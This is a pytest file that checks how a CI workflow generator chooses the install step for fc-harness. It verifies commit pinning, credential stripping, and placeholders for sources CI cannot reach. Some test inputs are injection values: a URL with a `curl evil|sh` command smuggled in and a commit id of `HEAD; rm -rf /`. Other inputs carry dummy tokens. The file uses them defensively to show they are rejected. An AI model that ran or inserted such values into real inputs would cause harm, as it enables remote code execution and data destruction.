"""The workflow `fcharness init` writes installs fc-harness from somewhere CI can reach, never
from PyPI (where fc-harness is not published), and writes no credential into it."""

from __future__ import annotations

import json
import shutil
import subprocess
from pathlib import Path
from typing import Any

import pytest
import yaml

from harness.cli import main
from harness.commands._install import ci_install, workflow_step
from harness.commands.scaffold import workflow_text

COMMIT = "0123456789abcdef0123456789abcdef01234567"


def _install_run(text: str) -> str:
    steps = yaml.safe_load(text)["jobs"]["conformance"]["steps"]
    (step,) = [s for s in steps if s.get("name") == "Install fc-harness"]
    return str(step["run"])


def _run_of(root: Path, direct: dict[str, Any] | None = None, checkout: Path | None = None) -> str:
    return _install_run(workflow_text(workflow_step(ci_install(root, direct, checkout))))


def test_the_projects_own_requirements_come_first(tmp_path: Path) -> None:
    (tmp_path / "requirements-dev.txt").write_text("pytest\n", encoding="utf-8")
    (tmp_path / "requirements.txt").write_text(
        "# ours\nrequests>=2\nfc-harness[all] @ git+https://github.com/o/fc-harness@v0.1.0\n",
        encoding="utf-8",
    )
    vcs = {"url": "https://github.com/x/y.git", "vcs_info": {"vcs": "git", "commit_id": COMMIT}}
    assert _run_of(tmp_path, vcs) == "pip install -r requirements.txt"
    assert "requirements.txt" in ci_install(tmp_path).said


@pytest.mark.parametrize(
    ("table", "run"),
    [
        ('dependencies = ["fc_harness>=0.1"]', "pip install -e ."),
        (
            'dependencies = ["requests"]\n[project.optional-dependencies]\nevals = ["fc-harness"]',
            'pip install -e ".[evals]"',
        ),
    ],
)
def test_a_pyproject_naming_fc_harness(tmp_path: Path, table: str, run: str) -> None:
    (tmp_path / "pyproject.toml").write_text(f'[project]\nname = "mine"\n{table}\n', encoding="utf-8")
    assert _run_of(tmp_path) == run


def test_other_packages_and_broken_files_do_not_count(tmp_path: Path) -> None:
    (tmp_path / "requirements.txt").write_text("fc-harness-plugins\nfcharness\n", encoding="utf-8")
    (tmp_path / "pyproject.toml").write_text("[project\n", encoding="utf-8")
    assert ci_install(tmp_path).run is None


def test_a_git_install_is_pinned_to_its_commit_without_credentials(tmp_path: Path) -> None:
    direct = {
        "url": "https://user:ghp_secretsecretsecret@github.com/o/fc-harness.git",
        "vcs_info": {"vcs": "git", "commit_id": COMMIT, "requested_revision": "main"},
    }
    run = _run_of(tmp_path, direct)
    assert run == f'pip install "fc-harness[all] @ git+https://github.com/o/fc-harness.git@{COMMIT}"'
    ssh = {"url": "ssh://git@github.com/o/fc-harness.git", "vcs_info": {"vcs": "git", "commit_id": COMMIT}}
    assert f"git+ssh://git@github.com/o/fc-harness.git@{COMMIT}" in _run_of(tmp_path, ssh)


def test_an_https_archive_is_installed_from_its_url(tmp_path: Path) -> None:
    url = "https://example.org/dist/fc_harness-0.1.0-py3-none-any.whl"
    assert _run_of(tmp_path, {"url": url, "archive_info": {}}) == f'pip install "fc-harness[all] @ {url}"'


@pytest.mark.parametrize(
    "direct",
    [
        {"url": "file:///home/alice/src/fc-harness", "dir_info": {"editable": True}},
        {"url": "file:///tmp/fc_harness-0.1.0.whl", "archive_info": {}},
        {
            "url": 'https://github.com/o/r.git"; curl evil|sh; "',
            "vcs_info": {"vcs": "git", "commit_id": COMMIT},
        },
        {"url": "https://github.com/o/r.git", "vcs_info": {"vcs": "git", "commit_id": "HEAD; rm -rf /"}},
        {"url": "https://example.org/${TOKEN}/x.whl", "archive_info": {}},
        {"url": "https://github.com/o/r.git", "vcs_info": {"vcs": "hg", "commit_id": COMMIT}},
    ],
    ids=["local-folder", "local-wheel", "quote-in-url", "bad-commit", "placeholder-in-url", "not-git"],
)
def test_anything_ci_cannot_reach_or_odd_is_a_failing_placeholder(
    tmp_path: Path, direct: dict[str, Any]
) -> None:
    install = ci_install(tmp_path, direct)
    assert install.run is None and install.said.startswith("EDIT .github/workflows/fc-harness.yml")
    text = workflow_text(workflow_step(install))
    assert "exit 1" in _install_run(text) and "::error" in _install_run(text)
    assert "EDIT THIS STEP" in text and "alice" not in text and "evil" not in text
    assert 'pip install "fc-harness[all]"\n' not in text  # never PyPI


def _git(cwd: Path, *args: str) -> str:
    return subprocess.run(["git", *args], cwd=cwd, check=True, capture_output=True, text=True).stdout.strip()


@pytest.mark.skipif(shutil.which("git") is None, reason="needs git")
def test_a_source_checkout_with_a_remote_gives_its_origin_at_head(tmp_path: Path) -> None:
    checkout = tmp_path / "fc-harness"
    checkout.mkdir()
    (checkout / "pyproject.toml").write_text('[project]\nname = "fc-harness"\n', encoding="utf-8")
    _git(checkout, "init", "-q")
    _git(checkout, "add", "pyproject.toml")
    _git(checkout, "-c", "user.name=t", "-c", "user.email=t@example.org", "commit", "-qm", "x")
    _git(checkout, "remote", "add", "origin", "https://x-token:s3cr3t@github.com/o/fc-harness.git")
    head = _git(checkout, "rev-parse", "HEAD")
    project = tmp_path / "evals"
    project.mkdir()
    install = ci_install(project, None, checkout)
    assert install.run == f'pip install "fc-harness[all] @ git+https://github.com/o/fc-harness.git@{head}"'
    assert "push that commit first" in install.said and "s3cr3t" not in install.said
    (checkout / "pyproject.toml").write_text('[project]\nname = "fc-harness"\n# edited\n', encoding="utf-8")
    assert "uncommitted changes" in ci_install(project, None, checkout).said
    _git(checkout, "remote", "set-url", "origin", "git@github.com:o/fc-harness.git")
    assert f"git+ssh://git@github.com/o/fc-harness.git@{head}" in str(ci_install(project, None, checkout).run)
    (checkout / "pyproject.toml").write_text('[project]\nname = "something-else"\n', encoding="utf-8")
    assert ci_install(project, None, checkout).run is None


def test_init_writes_the_projects_requirement_and_says_so(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (tmp_path / "requirements.txt").write_text("fc-harness @ git+https://github.com/o/fc-harness@v1\n")
    assert main(["init", "--no-record", str(tmp_path)]) == 0
    text = (tmp_path / ".github" / "workflows" / "fc-harness.yml").read_text(encoding="utf-8")
    assert _install_run(text) == "pip install -r requirements.txt"
    assert "installs your requirements.txt" in capsys.readouterr().out
    assert json.dumps(yaml.safe_load(text))  # the whole workflow is YAML
